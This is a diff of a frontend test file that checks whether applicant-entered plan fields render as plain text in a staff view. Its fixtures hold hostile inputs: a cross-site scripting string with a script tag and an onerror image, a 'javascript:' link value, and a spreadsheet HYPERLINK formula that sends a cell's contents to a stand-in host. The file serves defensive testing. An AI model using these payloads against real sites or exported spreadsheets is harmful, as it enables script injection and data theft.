@@ -13,6 +13,7 @@ const hostile = '<script>alert("x")</script> <img src=x onerror=alert(1)>';
 const formula = '=HYPERLINK("https://kwaad.example/?"&A1;"klik")';
 
 const plan = {
+  id: "plan-1",
   title: hostile,
   contactName: hostile,
   email: "javascript:alert(1)",
@@ -33,7 +34,7 @@ const plan = {
 };
 
 test("what applicants wrote stays text for staff too", () => {
-  const { container } = render(<StaffPlanParts plan={plan} />);
+  const { container } = render(<StaffPlanParts slug="ronde" plan={plan} />);
   expect(container.querySelectorAll("script, img, iframe, object, [onerror]")).toHaveLength(0);
   const links = within(container)
     .getAllByRole("link")
